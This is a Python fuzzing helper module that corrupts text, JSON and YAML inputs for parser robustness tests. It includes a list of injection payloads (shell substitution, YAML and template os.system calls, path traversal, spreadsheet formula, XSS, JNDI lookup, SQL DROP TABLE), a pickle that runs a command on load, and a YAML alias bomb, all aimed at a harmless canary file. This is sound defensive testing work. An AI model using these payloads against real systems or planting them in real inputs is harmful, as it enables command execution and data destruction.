"""Random damage to text, JSON, YAML, tables and command lines, and payloads that hostile files carry."""

import json
import random
import re
from collections.abc import Callable, Sequence
from itertools import pairwise
from pathlib import Path
from typing import Any

__all__ = ["CANARY", "mutate_bytes", "mutate_json", "mutate_text", "odd_value", "write_pickle"]

CANARY = "canary"
"""File that only code or a command in an input would make."""
_PAYLOADS = (
    f"$(touch {CANARY})",
    f"`touch {CANARY}`",
    f"; touch {CANARY} ;",
    f'!!python/object/apply:os.system ["touch {CANARY}"]',
    f"{{{{ cycler.__init__.__globals__.os.system('touch {CANARY}') }}}}",
    f"__import__('os').system('touch {CANARY}')",
    f"../../{CANARY}",
    f"/proc/self/fd/1/../{CANARY}",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "${jndi:ldap://x/a}",
    "'; DROP TABLE runs; --",
)
_ODD = (
    *("", " ", "\x00", "\ufeff", "\ud800", "\u202e", "é", "😀", "日本語", "null", "None", "nan", "inf", "-inf", "true"),
    *(
        "0",
        "-1",
        "1e400",
        "-0.0",
        "1" * 400,
        "9" * 5000,
        "0x10",
        "1_000",
        "\u0661",
        "a" * 300,
        "!" * 100,
        "|",
        "||",
        ",",
        ";",
    ),
    *("\t", '"', "'", "\\", "\r", "\n", "#", "%s", "{}", "~nosuch", "/", "/dev/zero", "/dev/null", "/etc", ".", ".."),
    *("http://ann:hunter2@host/x", "s3://bucket/x", "file:///etc", "models:/x/1", "[" * 2000, "{" * 2000, "@" * 10),
    *_PAYLOADS,
)


def odd_value(rng: random.Random) -> str:
    """Return a value that a user or a hostile file may give."""
    return rng.choice(_ODD)


def mutate_text(text: str, rng: random.Random) -> bytes:
    """Damage a text in one to three ways, each at a random place."""
    for _ in range(rng.choice((1, 1, 2, 3))):
        text = rng.choice(_TEXT_MUTATIONS)(text, rng)
    content = text.encode("utf-8", "surrogatepass")
    if rng.random() < 0.1:
        content = text.encode(rng.choice(("utf-16", "utf-8-sig", "latin-1", "cp1252")), "replace")
    return mutate_bytes(content, rng) if rng.random() < 0.15 else content


def mutate_bytes(content: bytes, rng: random.Random) -> bytes:
    """Damage bytes: truncate, flip, repeat, insert."""
    place, kind = rng.randrange(len(content) + 1), rng.randrange(4)
    if kind == 0:
        return content[:place]
    if kind == 1:
        return (
            content[:place] + bytes(rng.randrange(256) for _ in range(rng.choice((1, 4, 100)))) + content[place + 1 :]
        )
    if kind == 2:
        return content[:place] + content[: rng.randrange(2000)] + content[place:]
    return content[:place] + rng.choice((b"\x00" * 10, b"\xff\xfe", b"\r", b'"', b"\n\n")) + content[place:]


def mutate_json(content: Any, rng: random.Random) -> str:
    """Replace, remove, rename, nest or repeat values of a JSON document; return its text."""
    content = json.loads(json.dumps(content))
    for _ in range(rng.choice((1, 1, 2, 3))):
        places = list(_places(content))
        if not places:
            break
        owner, key = rng.choice(places)
        owner[key] = rng.choice(_json_values(owner[key]))
        if isinstance(owner, dict) and rng.random() < 0.3:
            owner[odd_value(rng)] = owner.pop(key)
        elif rng.random() < 0.2:
            del owner[key]
    text = json.dumps(content, ensure_ascii=rng.random() < 0.5)
    text = text.replace('"@deep@"', "[" * 100_000 + "]" * 100_000).replace('"@huge@"', "9" * 5000)
    return text.replace('"@twice@"', '1, "a": 2, "a": 3' if rng.random() < 0.5 else "1e999")


def write_pickle(path: Path) -> None:
    """Write a pickle that makes the canary when it is loaded."""
    path.write_bytes(f"cos\nsystem\n(S'touch {CANARY}'\ntR.".encode())


def _json_values(value: Any) -> list[Any]:
    text = str(value)
    return [
        *(None, True, False, 0, -1, 10**30, 1.5, "", [], {}, [value], {"a": value}, [[value]], "@deep@", "@huge@"),
        *("@twice@", text * 2, "/etc/passwd", "../../x", "a" * 300, *_PAYLOADS[:6], f"x{text}"),
    ]


def _places(content: Any) -> Any:
    """Yield (owner, key) of every value of a JSON document."""
    items = content.items() if isinstance(content, dict) else enumerate(content) if isinstance(content, list) else ()
    for key, value in list(items):
        yield content, key
        yield from _places(value)


def _cut(text: str, rng: random.Random) -> str:
    return text[: rng.randrange(len(text) + 1)]


def _insert(text: str, rng: random.Random) -> str:
    place = rng.randrange(len(text) + 1)
    return text[:place] + odd_value(rng) + text[place:]


def _replace_token(text: str, rng: random.Random) -> str:
    tokens = list(re.finditer(r"[^\s,;:\t\"{}\[\]]+", text))
    if not tokens:
        return text + odd_value(rng)
    token = rng.choice(tokens)
    return text[: token.start()] + odd_value(rng) + text[token.end() :]


def _on_lines(change: Callable[[list[str], random.Random], Sequence[str]]) -> Callable[[str, random.Random], str]:
    def mutate(text: str, rng: random.Random) -> str:
        return "".join(change(text.splitlines(keepends=True) or [""], rng))

    return mutate


def _drop_line(lines: list[str], rng: random.Random) -> list[str]:
    place = rng.randrange(len(lines))
    return lines[:place] + lines[place + 1 :]


def _repeat_line(lines: list[str], rng: random.Random) -> list[str]:
    place = rng.randrange(len(lines))
    return lines[:place] + [lines[place]] * rng.choice((2, 3, 200)) + lines[place + 1 :]


def _swap_lines(lines: list[str], rng: random.Random) -> list[str]:
    rng.shuffle(lines)
    return lines


def _change_separator(text: str, rng: random.Random) -> str:
    return text.replace(rng.choice((",", ":", '"', "|", "\n")), rng.choice((";", "\t", "", '""', "\r\n", "\r", ",")))


def _long_cell(text: str, rng: random.Random) -> str:
    place = rng.randrange(len(text) + 1)
    return text[:place] + "long " * rng.choice((100, 40_000)) + text[place:]


def _deep(text: str, rng: random.Random) -> str:
    sign, end = rng.choice((("[", "]"), ('{"a":', "}")))
    count = rng.choice((50, 5000, 100_000))
    return text + "\n" + sign * count + "1" + end * count + "\n"


def _aliases(text: str, rng: random.Random) -> str:
    """YAML whose aliases multiply ninefold at each level."""
    names = "abcdefghi"[: rng.choice((3, 7, 9))]
    lines = [f"{names[0]}: &{names[0]} [{', '.join('x' * 9)}]"]
    lines += [f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]" for before, name in pairwise(names)]
    return text + "\n" + "\n".join(lines) + f"\nlearning_rate: *{names[-1]}\n"


_TEXT_MUTATIONS = (
    *(_cut, _insert, _insert, _replace_token, _replace_token, _replace_token, _change_separator, _long_cell, _deep),
    *(_on_lines(change) for change in (_drop_line, _repeat_line, _swap_lines)),
    _aliases,
)
